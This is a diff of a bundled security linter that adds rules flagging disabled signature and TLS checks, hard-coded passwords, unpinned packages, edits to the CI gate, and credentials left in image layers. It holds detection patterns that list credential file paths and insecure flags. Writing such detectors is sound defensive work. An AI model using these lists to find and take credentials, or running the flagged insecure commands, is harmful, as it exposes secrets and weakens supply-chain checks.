-function workflow_shell_maskExpressions(script) {
-    let masked = '';
-    for (const { span } of findExpressions(script))
-        masked += `${script.slice(masked.length, span.start)}\${${'_'.repeat(span.end - span.start - 3)}}`;
-    return masked + script.slice(masked.length);
-}
 
 ;// CONCATENATED MODULE: ./lib/documents/publishing.js
 
@@ -46802,6 +46827,9 @@ const options = [
     ],
     [/^(?:yum|dnf|microdnf|tdnf|zypper)$/, /^--(?:nogpgcheck|no-gpgcheck|no-gpg-checks|no-gpg-check)$/],
     [/^(?:yum|dnf|microdnf|yum-config-manager|dnf-config-manager)$/, /^--setopt=(?:.*\.)?(?:repo_)?gpgcheck=(?:0|false|no)$/i],
+    [/^zypper$/, /^--allow-unsigned-rpm$/],
+    [/^dpkg$/, /^--(?:force-bad-verify|no-debsig)$/],
+    [/^(?:echo|printf|sed|tee)$/, /(?:^|[\s/])SigLevel\s*=\s*Never\b/],
     [/^rpm$/, /^--(?:nosignature|nodigest|noverify|nogpg)$/],
     [/^(?:echo|printf|sed|tee)$/, /\[[^\]]*trusted=yes[^\]]*\]|(?:^|\s)(?:repo_)?gpgcheck\s*=\s*(?:0|false|no)\b/i],
 ];
@@ -46863,8 +46891,11 @@ const setsPassword = ({ name, args }) => name === 'chpasswd' ||
     (name === 'passwd' &&
         !args.some(({ value }) => /^-(?:[leSuanx]+|-(?:lock|unlock|expire|status|maxdays|mindays|inactive|warndays|help))/.test(value)));
 const password_in_run_isLiteral = (word) => word?.literal === true && word.value !== '' && !/^[-*!<]|^x$|\$|\{\{|\/run\/secrets\//.test(word.value);
-/** The option's name without its value. */
-function passwordOption({ name, args }) {
+/** The option's name without its value, or the word before a password that stands alone. */
+function passwordOption({ name, nameWord, args }) {
+    const hashes = (name === 'openssl' && args[0]?.value === 'passwd') || (name === 'htpasswd' && args.some(({ value }) => /^-[a-zA-Z]*b/.test(value)));
+    if (hashes && args.length > 1 && password_in_run_isLiteral(args.at(-1)))
+        return nameWord;
     for (const [at, word] of args.entries()) {
         const joined = /^(--(?:password|passwd|passphrase))=(.+)$/.exec(word.value);
         if (joined?.[1] && word.literal)
@@ -47228,8 +47259,10 @@ const about = new Set(`algorithm alg alias allowed audience backend class count 
   filename files fingerprint format header host hosts id issuer length limit lifetime max method min mode name names namespace only path paths
   plugin policy port prefix provider realm required rotation scheme scope scopes secs seconds server service size sock socket strategy suffix
   timeout ttl type uri url urls user username version window`.split(/\s+/));
-/** Before one: keys that everybody may have. */
-const secret_names_open = new Set('apt cache foreign gpg partition pgp primary pub public rpm sort'.split(' '));
+/** Before one: what everybody may have. */
+const secret_names_open = new Set(['pub', 'public']);
+/** Before `key`: those of lists and packages, which everybody may have. */
+const openKeys = new Set('apt cache foreign gpg partition pgp primary rpm sort'.split(' '));
 /**
  * Whether a variable of this name holds a secret itself. `API_KEY`, `DB_PASSWORD` and `NPM_TOKEN` do; `PUBLIC_KEY`, `KEY_NAME`, `PASSWORD_FILE`,
  * `AUTH_URL`, `SSH_AUTH_SOCK` and `TOKENIZERS_PARALLELISM` do not.
@@ -47241,10 +47274,11 @@ function meansSecret(name) {
     // The working directory, and words too short to say anything.
     if (words.length === 1 && ['pwd', 'pass', 'pat'].includes(words[0] ?? ''))
         return false;
-    const last = words.findLastIndex((word) => secrets.has(word) || /^[a-z]*(?:password|passwd|secret|apikey)$/.test(word));
+    const last = words.findLastIndex((word) => secrets.has(word) || /^[a-z]*(?:password|passwd|secret|apikey|privatekey)$/.test(word));
     if (last < 0 || words.slice(last + 1).some((word) => about.has(word)))
         return false;
-    return !words.slice(0, last).some((word) => secret_names_open.has(word));
+    const isKey = /^keys?$/.test(words[last] ?? '');
+    return !words.slice(0, last).some((word) => secret_names_open.has(word) || (isKey && openKeys.has(word)));
 }
 /** A switch, a number or an address: no secret, whatever the name says. */
 const isNoSecretValue = (value) => /^(?:|true|false|yes|no|on|off|none|null|\d{1,5}|https?:\/\/[^@\s]*)$/i.test(value);
@@ -47405,6 +47439,7 @@ const tls_verification_disabled_variables = new Map([
     // Git asks only whether it is set: `0` and nothing turn the check off too.
     ['GIT_SSL_NO_VERIFY', /(?:)/],
     ['GOINSECURE', on],
+    ['GOFLAGS', /(?:^|\s)-insecure\b/],
     ['COMPOSER_DISABLE_TLS', on],
     ['BUNDLE_SSL_VERIFY_MODE', /^0$/],
     ['VAULT_SKIP_VERIFY', on],
@@ -47420,6 +47455,10 @@ const tls_verification_disabled_options = [
     [/^aria2c$/, /^--check-certificate=false$/],
     [/^(?:http|https|httpie)$/, /^--verify=(?:no|false)$/],
     [/^aws$/, /^--no-verify-ssl$/],
+    [/^apk$/, /^--no-check-certificate$/],
+    [/^svn$/, /^--trust-server-cert(?:-failures.*)?$/],
+    // Lines of `.wgetrc`, `.npmrc` and `.condarc`.
+    [/^(?:echo|printf|sed|tee)$/, /(?:^|\s|\/)(?:check_certificate\s*=\s*off|strict-ssl\s*=\s*false|ssl_verify\s*:\s*false)\b/i],
     [/^go$/, /^-insecure$/],
     [/^(?:podman|buildah|skopeo)$/, /^--(?:src-|dest-)?tls-verify=false$/],
     [/./, /^--insecure-skip-tls-verify(?:=true)?$/],
@@ -47473,7 +47512,7 @@ function* inCommand({ name, args, command }, document) {
         return;
     for (const [index, word] of args.entries()) {
         const text = word.value;
-        const isOption = tls_verification_disabled_options.some(([program, option]) => program.test(name) && option.test(text));
+        const isOption = tls_verification_disabled_options.some(([program, option]) => program.test(name) && option.test(text)) || isCurlLine(text, command);
         const next = args[index + 1];
         const before = (verb) => args.slice(0, index).some(({ value }) => value === verb);
         const isSetting = next && tls_verification_disabled_settings.some(([program, verb, key, value]) => program.test(name) && key.test(text) && value.test(next.value) && before(verb));
@@ -47485,6 +47524,8 @@ function* inCommand({ name, args, command }, document) {
             yield { at: spanning(word, next), message: `${told} ("${text} ${next.value}")` };
     }
 }
+/** A line that is written to `.curlrc`. */
+const isCurlLine = (text, { redirections }) => /^(?:--)?insecure$|^-k$/.test(text) && redirections.some(({ target }) => /\bcurlrc$/.test(target.value));
 /** Takes the option out of the command, or its letter out of a cluster; not where it has a value behind it. */
 function removal(word, document, inCluster) {
     const { span, value } = word;
@@ -47506,43 +47547,57 @@ function* inVariables(instruction) {
 const spanning = (first, last) => ({ span: { start: first.span.start, end: last.span.end } });
 
 ;// CONCATENATED MODULE: ./lib/documents/shell-packages.js
-const localFile = /^\.{0,2}\/|\.(?:deb|rpm|apk|whl|tgz|tar\.\w+|gem|zip)$/;
+/** Nothing is of this form: no option does it. */
+const never = /(?!)/;
+const localFile = /^\.{0,2}\/|^\.{1,2}(?:\[|$)|\.(?:deb|rpm|apk|whl|tgz|tar\.\w+|gem|zip)$/;
 const installers = [
     {
         program: /^(?:apt|apt-get|aptitude)$/,
         verb: /^install$/,
         valued: /^(?:-[oct]|--option|--target-release|--default-release)$/,
-        pinned: /[=+]|\/\w/,
+        // A minus behind the name takes it away.
+        pinned: /=|\/\w|-$/,
     },
     { program: /^apk$/, verb: /^add$/, valued: /^(?:-[tXp]|--virtual|--repository|--root|--keys-dir|--arch)$/, pinned: /[=<>~]/ },
     {
         program: /^(?:yum|dnf|microdnf|tdnf)$/,
         verb: /^(?:install|localinstall)$/,
         valued: /^(?:-[cdex]|--exclude|--enablerepo|--disablerepo|--repo|--installroot|--releasever)$/,
-        pinned: /-\d|^@/,
+        pinned: /-\d|:\d|^@/,
     },
     { program: /^zypper$/, verb: /^(?:install|in)$/, valued: /^(?:-[rt]|--repo|--type|--from)$/, pinned: /[=<>~]/ },
     {
         program: /^(?:pip|pip[\d.]+|pipx)$/,
         verb: /^install$/,
         valued: /^(?:-[ifctb]|--index-url|--extra-index-url|--find-links|--target|--trusted-host|--prefix|--root|--python|--platform|--cache-dir|--timeout|--retries|--proxy|--progress-bar|--no-binary|--only-binary|--config-settings|--global-option|--install-option|--abi|--implementation|--python-version|--src|--log|--cert)$/,
-        pinned: /===?|~=|\s@\s|@[^@]*(?:#|[0-9a-f]{7})|^\.(?:\[|$)/,
+        // A range says which versions it may be: that much is wanted.
+        pinned: /[=<>~!]=|[<>]|\s@\s|^(?:git|hg|svn|bzr)\b.*@(?!(?:main|master|trunk|develop|HEAD)(?:#|$))[^@/]+$/,
         listed: /^(?:-r|--requirement|-c|--constraint)/,
+        locked: /^(?:--no-deps|--require-hashes)$/,
     },
     {
         program: /^npm$/,
         verb: /^(?:install|i|add)$/,
-        valued: /^(?:--prefix|--registry|-w|--workspace|--tag|--cache)$/,
-        pinned: /.@(?!latest$|next$|beta$)\S|#|^git|^file:/,
+        valued: /^(?:-[wC]|--(?:prefix|registry|workspace|tag|cache|loglevel|omit|include|only|userconfig|before|fetch-\w+|maxsockets|install-strategy))$/,
+        pinned: /^(?!git|ssh:|https?:).+@(?!latest$|next$|beta$)\S|#|^file:/,
+        locked: never,
     },
-    { program: /^yarn$/, verb: /^add$/, valued: /^(?:--cwd|--registry)$/, pinned: /.@(?!latest$)\S|#/ },
-    { program: /^pnpm$/, verb: /^add$/, valued: /^(?:--dir|-C|--registry|--filter)$/, pinned: /.@(?!latest$)\S|#/ },
+    { program: /^yarn$/, verb: /^add$/, valued: /^(?:--cwd|--registry)$/, pinned: /.@(?!latest$)\S|#/, locked: never },
+    {
+        program: /^pnpm$/,
+        verb: /^(?:add|i|install)$/,
+        valued: /^(?:--dir|-C|--registry|--filter)$/,
+        pinned: /.@(?!latest$)\S|#/,
+        locked: never,
+    },
     {
         program: /^gem$/,
-        verb: /^install$/,
+        verb: /^(?:install|i)$/,
         valued: /^(?:-[insv]|--install-dir|--bindir|--source|--version|--document|--platform)$/,
         pinned: /:\d/,
-        listed: /^(?:-v|--version|-g|--file)/,
+        versioned: /^(?:-v|--version)/,
+        listed: /^(?:-g|--file)/,
+        locked: /^(?:--ignore-dependencies|-[a-z]*N)$/,
     },
     {
         program: /^go$/,
@@ -47555,35 +47610,61 @@ const installers = [
         verb: /^install$/,
         valued: /^(?:--root|--features|-F|--target|--index|--registry|--bin|--example|-j|--jobs|--profile|--config|-Z)$/,
         pinned: /@\d/,
-        listed: /^(?:--version|--vers|--rev|--path|--tag)/,
+        versioned: /^(?:--version|--vers|--rev)/,
+        listed: /^(?:--path|--tag)/,
     },
     {
         program: /^choco$/,
         verb: /^install$/,
         valued: /^(?:-s|--source|--params|--package-parameters)$/,
-        pinned: /(?!)/,
-        listed: /^--version/,
+        pinned: never,
+        versioned: /^--version/,
+    },
+    {
+        program: /^(?:conda|mamba|micromamba)$/,
+        verb: /^(?:install|create)$/,
+        valued: /^(?:-[cnpf]|--channel|--name|--prefix|--file|--solver)$/,
+        pinned: /[=<>]/,
+        listed: /^(?:-f|--file)/,
+    },
+    { program: /^nuget$/, verb: /^install$/, valued: /^-(?!Verbosity)\w+$/i, pinned: /\.config$/, versioned: /^-version$/i },
+    {
+        program: /^dotnet$/,
+        verb: /^(?:package|install)$/,
+        valued: /^(?:-[fsv]|--framework|--source|--version)$/,
+        pinned: never,
+        versioned: /^(?:-v|--version)$/,
     },
 ];
-/** Words that name packages without a version; variables, local files and lists of requirements are let be. */
-function unpinnedPackages({ name, args }) {
-    const isPython = /^python[\d.]*$/.test(name) && args[0]?.value === '-m';
-    const program = isPython ? (args[1]?.value ?? '') : name;
-    const words = isPython ? args.slice(2) : args;
+/** Programs whose first word leads to the words of another one. */
+const leading = [
+    [/^python[\d.]*$/, ['-m']],
+    [/^uv$/, []],
+];
+/** The packages that a command names and installs; variables, local files and lists of requirements are let be. */
+function installedPackages({ name, args }) {
+    const lead = leading.find(([program, first]) => program.test(name) && first.every((word, at) => args[at]?.value === word))?.[1].length;
+    const program = lead === undefined ? name : (args[lead]?.value ?? '');
+    const words = lead === undefined ? args : args.slice(lead + 1);
     const installer = installers.find((each) => each.program.test(program));
     const verb = words.findIndex((word) => installer?.verb.test(word.value));
-    if (!installer || verb < 0 || words.some((word) => installer.listed?.test(word.value)))
+    // `npm run install` runs a script of that name.
+    if (!installer || verb < 0 || shell_packages_has(words.slice(0, verb), /^run(?:-script)?$/) || shell_packages_has(words, installer.listed))
         return [];
-    return words.filter((word, at) => at > verb && shell_packages_isUnpinned(word, words[at - 1], installer));
+    const versioned = shell_packages_has(words, installer.versioned);
+    const locked = installer.locked === undefined || shell_packages_has(words, installer.locked);
+    return words
+        .filter((word, at) => at > verb && isPackage(word, words[at - 1], installer))
+        .map((word) => ({ word, pinned: versioned || installer.pinned.test(word.value), locked }));
 }
-function shell_packages_isUnpinned({ value, literal }, before, { valued, pinned }) {
+const shell_packages_has = (words, option) => option !== undefined && words.some(({ value }) => option.test(value));
+function isPackage({ value, literal }, before, { valued }) {
     if (value === '' || value.startsWith('-') || (before && valued.test(before.value)))
         return false;
-    return !pinned.test(value) && !localFile.test(value) && (literal || /^\w[\w.-]*$/.test(value));
+    return !localFile.test(value) && (literal || /^\w[\w.-]*$/.test(value));
 }
 
 ;// CONCATENATED MODULE: ./lib/rules/dockerfile/unpinned-package.js
-
 
 
 
@@ -47594,22 +47675,28 @@ function shell_packages_isUnpinned({ value, literal }, before, { valued, pinned 
     threat: 'immutability',
     summary: 'A package is installed without its version',
     why: 'The same file gives another program tomorrow, and a stolen package is installed the day that it is published.',
-    instead: 'Name the version (`name=1.2`, `name==1.2`, `name@1.2`), or install from a lock file. Debian and Alpine remove old versions from their mirrors: there, take packages from a snapshot.',
+    instead: 'Name the version (`name=1.2`, `name==1.2`, `name@1.2`); in a workflow, where nothing keeps what was installed, install from a lock file (`npm ci`, `bundle install`, `pip install --require-hashes -r …`). Debian and Alpine remove old versions from their mirrors: there, take packages from a snapshot.',
     references: [docker('build/building/best-practices/#version-pinning', 'version pinning'), cwe(829)],
     peers: [
         ...['DL3008', 'DL3013', 'DL3016', 'DL3018', 'DL3028', 'DL3033', 'DL3037', 'DL3041', 'DL3062'].map((id) => `hadolint:${id}`),
         'kics:apt_get_install_pin_version_not_defined',
+        'kics:unpinned_package_version_in_pip_install',
+        'kics:npm_install_without_pinned_version',
         'scorecard:Pinned-Dependencies',
+        'zizmor:adhoc-packages',
     ],
     bad: 'FROM node:24.1.0\nRUN npm install --global typescript\nUSER node\n',
     good: 'FROM node:24.1.0\nRUN npm install --global typescript@5.9.3\nUSER node\n',
-    on: 'instruction',
-    *check(instruction) {
-        if (instruction.keyword !== 'RUN')
-            return;
-        for (const invocation of invocations(instruction))
-            for (const word of unpinnedPackages(invocation))
-                yield { at: word, message: `${invocation.name} installs "${word.value}" without a version` };
+    on: 'shellScript',
+    *check({ invocations, runsIn }) {
+        for (const invocation of invocations)
+            for (const { word, pinned, locked } of installedPackages(invocation)) {
+                const told = `${invocation.name} installs "${word.value}"`;
+                if (!pinned)
+                    yield { at: word, message: `${told} without a version` };
+                else if (!locked && runsIn === 'workflow')
+                    yield { at: word, message: `${told}, but what that depends on in whatever version there is: no lock file or checksums` };
+            }
     },
 }));
 
@@ -47684,6 +47771,122 @@ const world_writable_isOpen = (mode) => octal.test(mode) || symbolic.test(mode);
     },
 }));
 const isMode = (word, before = '') => word.startsWith('--mode=') || /^(?:-[a-z]*m|--mode)$/.test(before);
+
+;// CONCATENATED MODULE: ./lib/documents/yaml-difference.js
+/** Pairs of nodes that are looked at: what an alias repeats is walked each time. */
+const maximumPairs = 20_000;
+/**
+ * The first difference in meaning of two values: comments, quotes, the order of keys and what `plain` makes equal count for nothing.
+ * @param plain the text of a scalar to compare by, given the key that it stands under
+ */
+function yamlDifference(base, head, plain) {
+    let left = maximumPairs;
+    const inMaps = (was, is) => {
+        for (const { key, value } of is.entries) {
+            const before = was.at(key.string);
+            const found = before === undefined ? { at: key } : differ(before, value, key.string);
+            if (found !== null)
+                return found;
+        }
+        const gone = was.entries.find(({ key }) => is.at(key.string) === undefined);
+        return gone === undefined ? null : { removed: gone.key };
+    };
+    const differ = (was, is, key) => {
+        if (left-- <= 0)
+            return { at: is };
+        if (was.kind === 'map' && is.kind === 'map')
+            return inMaps(was, is);
+        if (was.kind === 'sequence' && is.kind === 'sequence') {
+            for (const [at, { value }] of is.items.entries()) {
+                const before = was.items[at]?.value;
+                const found = before === undefined ? { at: value } : differ(before, value, key);
+                if (found !== null)
+                    return found;
+            }
+            const gone = was.items[is.items.length]?.value;
+            return gone === undefined ? null : { removed: gone };
+        }
+        return was.kind === 'scalar' && is.kind === 'scalar' && plain(was, key) === plain(is, key) ? null : { at: is };
+    };
+    return differ(base, head, '');
+}
+
+;// CONCATENATED MODULE: ./lib/rules/guard/gate-changed.js
+
+
+
+const gate = (condition = '') => `on: [pull_request, merge_group]
+jobs:
+  plimsoll:
+    runs-on: ubuntu-24.04
+${condition}    steps:
+      - uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8
+      - uses: plimsoll/plimsoll@c270f4636debfeeff4b212f3c5b06281cf9fbf41
+`;
+/* harmony default export */ const gate_changed = (defineChangeRule({
+    id: 'guard/gate-changed',
+    severity: 'medium',
+    threat: 'access',
+    summary: 'The change edits the job that runs Plimsoll',
+    why: 'A pull request runs its own form of the workflow: a condition, a filter, another input or a step before it can leave the check green without anything being checked.',
+    instead: 'Review the edit as what it is, the gate. A workflow on `pull_request_target`, or one that a ruleset requires, runs in the form that the base branch has.',
+    references: [
+        actions('reference/workflows-and-actions/events-that-trigger-workflows#pull_request', 'the workflow of a pull request'),
+        cwe(693),
+    ],
+    bad: {
+        base: { '.github/workflows/plimsoll.yml': gate() },
+        head: { '.github/workflows/plimsoll.yml': gate("    if: github.actor != 'octocat'\n") },
+    },
+    good: {
+        base: { '.github/workflows/plimsoll.yml': gate() },
+        head: {
+            '.github/workflows/plimsoll.yml': gate().replace('c270f4636debfeeff4b212f3c5b06281cf9fbf41', '4df98330000000000000000000000000000000ab'),
+        },
+    },
+    unwaivable: true,
+    on: 'workflow',
+    *compare(base, head) {
+        const gates = base?.jobs.filter(runsPlimsoll) ?? [];
+        for (const was of gates) {
+            const others = head?.jobs.filter(runsPlimsoll) ?? [];
+            const is = others.find(({ id }) => id === was.id) ?? others[0];
+            if (is === undefined) {
+                const message = `job "${was.id}" no longer runs Plimsoll: once merged, nothing is checked here`;
+                const left = head?.jobs.find(({ id }) => id === was.id)?.idNode;
+                yield { ...(left !== undefined && { at: left }), removed: was.idNode, message, subject: was.subject, field: 'gate', identity: '' };
+            }
+            else
+                yield* told(yamlDifference(was.node, is.node, gate_changed_plain), is, `job "${is.id}", which runs Plimsoll, is changed`);
+        }
+        if (base && head && gates.length > 0 && head.jobs.some(runsPlimsoll))
+            yield* gate_changed_frame(base, head);
+    },
+}));
+/** What holds for every job of the workflow. */
+function* gate_changed_frame(base, head) {
+    for (const key of ['on', 'env', 'defaults', 'permissions', 'concurrency']) {
+        const [was, is] = [base.root.entry(key), head.root.entry(key)];
+        const message = `\`${key}\` of the workflow that runs Plimsoll is changed`;
+        if (was !== undefined && is !== undefined)
+            yield* told(yamlDifference(was.value, is.value, gate_changed_plain), { ...head, idNode: is.key }, message);
+        else if (is !== undefined)
+            yield { at: is.key, message, field: key, identity: '' };
+        else if (was !== undefined)
+            yield { removed: was.key, at: head, message, field: key, identity: '' };
+    }
+}
+function* told(difference, { idNode, subject }, message) {
+    if (difference === null)
+        return;
+    const more = { message: `${message}: a pull request runs it in this form already`, subject, field: message, identity: '' };
+    yield 'at' in difference ? { ...more, at: difference.at } : { ...more, at: idNode, removed: difference.removed };
+}
+/** Raising the version of an action is no change of the gate. */
+const gate_changed_plain = ({ string }, key) => (key === 'uses' ? string.replace(/@[^@]*$/, '') : string);
+const command = /\bplimsoll(?:\/dist\/cli(?:\/index\.js)?)?["']?\s+(?:check|scan)\b/;
+const runsPlimsoll = (job) => /\/plimsoll[^/]*\.ya?ml(?:@|$)/.test(job.at('uses')?.string ?? '') ||
+    job.steps.some(({ reference, run }) => reference?.repository === 'plimsoll' || command.test(run?.string ?? ''));
 
 ;// CONCATENATED MODULE: ./lib/rules/guard/policy-changed.js
 
@@ -47801,7 +48004,7 @@ const retired = [
     threat: 'cve',
     summary: 'An image comes from a registry that gets no updates any more',
     why: 'A frozen registry keeps the flaws that its images have, and can be switched off at any time.',
-    instead: 'Take the image from the registry that followed it.',
+    instead: 'Take the image from the registry that followed it: `registry.k8s.io` for `k8s.gcr.io` and `gcr.io/google-containers`, `ghcr.io` for `docker.pkg.github.com`.',
     references: [
         kubernetes('setup/release/', 'releases and images'),
         { title: 'Kubernetes: k8s.gcr.io is frozen', url: 'https://kubernetes.io/blog/2023/02/06/k8s-gcr-io-freeze-announcement/' },
@@ -47929,6 +48132,7 @@ const editedImages = (document) => document
 
 
 
+
 /** Names that publishers move from release to release. */
 const moving = /^(?:latest|stable|unstable|edge|main|master|trunk|head|dev|devel|develop|development|nightly|daily|weekly|snapshot|lts|canary|current|next|mainline|rolling|rawhide|testing|sid|alpha|beta|rc|test|staging|prod|production|release)$/;
 /** A moving name with a flavour behind it. A date, a number or a commit would pin it: `nightly-2026-01-31`, `main-1f3c9a2`. */
@@ -47975,8 +48179,13 @@ const isMoving = (tag) => moving.test(tag) || flavoured.test(tag) || aroundLates
         const lastComponent = image.repository.value.slice(image.repository.value.lastIndexOf('/') + 1);
         if (!isOpen(image.repository.value) || (!isOpen(lastComponent) && !/[{}]/.test(lastComponent)))
             yield { at, identity, message: `image "${image.text}" has neither tag nor digest` };
+        else if (image.place === 'from' && isUntagged(parseImage(withoutArguments(image.text))))
+            yield { at, identity, message: `image "${image.text}" has neither tag nor digest where no build argument gives one` };
     },
 }));
+/** A build argument without a default is empty (Dockerfile reference, "ARG"); what BuildKit sets by itself is not. */
+const withoutArguments = (text) => text.replace(/\$(?:\{(\w+)\}|(\w+))/g, (all, a, b) => (isSetByBuildKit(a ?? b) ? all : ''));
+const isUntagged = (image) => image !== null && image.tag === null && image.digest === null && /^[\w.-]+(?:\/[\w.-]+)*(?<=[a-z\d])$/i.test(image.repository.value);
 
 ;// CONCATENATED MODULE: ./lib/rules/image/not-pinned-by-digest.js
 
@@ -50407,7 +50616,7 @@ metadata:
     threat: 'access',
     summary: 'A container listens for SSH',
     why: 'A shell server in a container is a second way in, with keys and users of its own that no cluster policy sees.',
-    instead: 'Remove it; use `kubectl exec` by a role that is bound for an emergency.',
+    instead: 'Remove it; use `kubectl exec` by a role that people get for an emergency only.',
     references: [attack('T1021.004'), kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices')],
     peers: ['kube-linter:ssh-port', 'kubescape:rule-can-ssh-to-pod-v1'],
     bad: `
@@ -52233,6 +52442,110 @@ function secretKeyReference({ document: { text }, name }, span) {
 }));
 const in_history_short = (id) => id.slice(0, 12);
 
+;// CONCATENATED MODULE: ./lib/documents/dockerfile-credentials.js
+
+/** Files whose only use is to hold credentials, by the manuals of their programs. */
+const credentialFile = /(?:^|\/)(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|[._]netrc|\.git-credentials|\.pgpass|\.pypirc|\.my\.cnf|\.dockercfg|\.vault-token|\.aws\/credentials|\.docker\/config\.json|\.kube\/config|kubeconfig|application_default_credentials\.json|\.config\/gh\/hosts\.yml|\.gem\/credentials|\.cargo\/credentials(?:\.toml)?|\.terraform\.d\/credentials\.tfrc\.json|[^/]*private[-_.]?key[^/]*\.(?:pem|key|der|p8)|(?:tls|ssl|server|client)\.key|[^/]+\.(?:kdbx|ppk))$/i;
+/** Its end says what a path is. */
+const dockerfile_credentials_maxPath = 300;
+/** Folders that hold such files beside others; as a target they say nothing. */
+const credentialFolder = /(?:^|\/)\.(?:ssh|aws)\/?$/;
+/** Variables that say where a program finds such a file. */
+const credentialVariable = /^\$\{?(?:AWS_SHARED_CREDENTIALS_FILE|AWS_CONFIG_FILE|AWS_WEB_IDENTITY_TOKEN_FILE|GOOGLE_APPLICATION_CREDENTIALS|KUBECONFIG|NETRC|PGPASSFILE|DOCKER_AUTH_CONFIG)\}?$/;
+/** Commands that keep what they are given in the home directory, by the program and its words with options left out. */
+const dockerfile_credentials_logins = [
+    /^gcloud auth (?:activate-service-account|login)\b/,
+    /^(?:docker|podman|buildah|nerdctl|skopeo|oras|cosign) login\b/,
+    /^(?:helm registry|crane auth|ko|regctl registry) login\b/,
+    /^aws configure set (?:\S+\.)?aws_(?:secret_access_key|session_token)\b/,
+    /^az login\b/,
+    /^(?:gh|glab) auth login\b/,
+    /^(?:npm|pnpm|yarn) (?:login|adduser)\b/,
+    /^(?:npm|pnpm) config set \S*:?_(?:authToken|auth|password)\b/,
+    /^yarn config set \S*(?:npmAuthToken|npmAuthIdent|_authToken)\b/,
+    /^git config (?:\S+ )*?url\.https?:\/\/[^/@\s]+@/,
+    /^pip[\d.]* config set \S*index-url \w+:\/\/[^/@\s:]+:[^/@\s]*@/,
+    /^(?:bundle config set|bundle config) (?:\S+ )?\S+ [^\s:]+:\S+$/,
+    /^composer config \S*(?:http-basic|github-oauth|gitlab-token|bearer)\b/,
+    /^(?:vault|heroku|oc) login\b/,
+    /^cargo login\b/,
+];
+/** What takes it away again before the layer is closed. */
+const undone = /^(?:\S+ (?:\S+ )?(?:logout|revoke|unset)\b|git config (?:\S+ )*(?:--unset|--remove-section)|(?:npm|pnpm) config (?:delete|rm)\b|(?:rm|shred) .*(?:\.docker|gcloud|\.aws|\.azure|npmrc|gitconfig|netrc|credentials|\.config|\.kube|auth\.json|~|\$HOME|\/root))/;
+/** The credentials that an instruction leaves in its layer: files that are copied, and programs that are logged in. */
+function layerCredentials(instruction) {
+    const { keyword, flags, words } = instruction;
+    if (keyword === 'COPY' || keyword === 'ADD')
+        return words
+            .filter(({ span, value }, at) => {
+            const path = instruction.expand(span).value.slice(-dockerfile_credentials_maxPath);
+            return credentialFile.test(path) || credentialVariable.test(value) || (at < words.length - 1 && credentialFolder.test(path));
+        })
+            .slice(0, 1)
+            .map(({ span, value }) => ({ span, what: value }));
+    const isKept = flags.every(({ name, value }) => name !== 'mount' || !value?.includes('type=tmpfs'));
+    if (keyword !== 'RUN' || !isKept)
+        return [];
+    const all = invocations(instruction);
+    if (all.some((each) => undone.test(spelt(each, true))))
+        return [];
+    return all
+        .filter((each) => dockerfile_credentials_logins.some((form) => form.test(spelt(each, false))))
+        .map(({ name, nameWord, args }) => {
+        const verb = args.find(({ value }) => /^[a-z]+$/.test(value));
+        return { span: { start: nameWord.span.start, end: (verb ?? nameWord).span.end }, what: `${name} ${verb?.value ?? ''}`.trimEnd() };
+    });
+}
+/** More words than any such command has. */
+const dockerfile_credentials_maxWords = 100;
+function spelt({ name, args }, options) {
+    const words = args.slice(0, dockerfile_credentials_maxWords).map(({ value }) => value.slice(0, dockerfile_credentials_maxPath));
+    return [name, ...words.filter((value) => options || !value.startsWith('-'))].join(' ');
+}
+
+;// CONCATENATED MODULE: ./lib/rules/secret/in-image-layer.js
+
+
+
+
+/* harmony default export */ const in_image_layer = (defineRule({
+    id: 'secret/in-image-layer',
+    severity: 'high',
+    threat: 'secret',
+    strictly: 'stages that the image is not built on, as low: their layers stay in the cache of the build.',
+    summary: 'A build leaves a credential in a layer of the image',
+    why: 'A layer keeps what one instruction has written, also where a later one deletes it: everybody who can pull the image, or the cache of the build, can take it out.',
+    instead: 'Mount the file for the one command that needs it: `RUN --mount=type=secret,id=aws,target=/root/.aws/credentials …`, or `--mount=type=ssh` for keys. What the program needs is given to it when it is started.',
+    references: [docker('build/building/secrets/', 'build secrets'), cwe(522), cwe(538), attack('T1552.001')],
+    peers: ['trivy:DS-0031'],
+    bad: {
+        Dockerfile: 'FROM debian:13.1\nCOPY id_ed25519 /root/.ssh/id_ed25519\nRUN git clone git@git.example:shop/web.git /web\nUSER 1000\n',
+    },
+    good: { Dockerfile: 'FROM debian:13.1\nRUN --mount=type=ssh git clone git@git.example:shop/web.git /web\nUSER 1000\n' },
+    on: 'dockerfile',
+    *check({ stages }, { strict }) {
+        const final = stages.at(-1);
+        const shipped = new Set(final && lineage(final));
+        for (const stage of stages) {
+            // Layers of a stage that is thrown away stay in the cache only.
+            if (!shipped.has(stage) && !strict)
+                continue;
+            // The same file in two places is one leak.
+            const told = new Set();
+            for (const instruction of stage.instructions)
+                for (const { span, what } of layerCredentials(instruction)) {
+                    if (told.has(what))
+                        continue;
+                    told.add(what);
+                    const message = instruction.keyword === 'RUN'
+                        ? `"${what}" leaves a credential in the layer`
+                        : `"${what}" holds a credential and stays in the layer`;
+                    yield { at: { span }, subject: stage.subject, message, ...(!shipped.has(stage) && { severity: 'low' }) };
+                }
+        }
+    },
+}));
+
 ;// CONCATENATED MODULE: ./lib/rules/secret/kubernetes-secret.js
 
 
@@ -53018,6 +53331,7 @@ function accessOf(job, scope) {
     id: 'workflow/credential-persistence',
     severity: 'medium',
     threat: 'secret',
+    strictly: 'every checkout that keeps the token; else only where something could carry it away.',
     summary: 'The token of the job is left on disk after the checkout',
     why: 'Every later step, and everything that a build runs, can read it there; an artifact that takes the whole folder publishes it.',
     instead: 'Write `persist-credentials: false`; where a later step pushes, give the token to that step.',
@@ -53361,6 +53675,8 @@ const isPlainEcho = ({ words, redirections }) => words.length === 2 && words[0]?
 ;// CONCATENATED MODULE: ./lib/documents/step-downloads.js
 
 
+
+
 const step_downloads_known = new WeakMap();
 /** What the step runs that it, or a step before it in the same job or action, has downloaded. */
 function downloadRuns(step) {
@@ -53368,10 +53684,14 @@ function downloadRuns(step) {
     let runs = step_downloads_known.get(steps);
     if (runs === undefined) {
         const tracker = new DownloadTracker();
-        runs = new Map(steps.map((each) => [each, tracker.read(stepCommands(each))]));
+        runs = new Map(steps.map((each) => [each, [...tracker.read(stepCommands(each)), ...step_downloads_inPowershell(each)]]));
         step_downloads_known.set(steps, runs);
     }
     return runs.get(step) ?? [];
+}
+function step_downloads_inPowershell(step) {
+    const { run, document } = step;
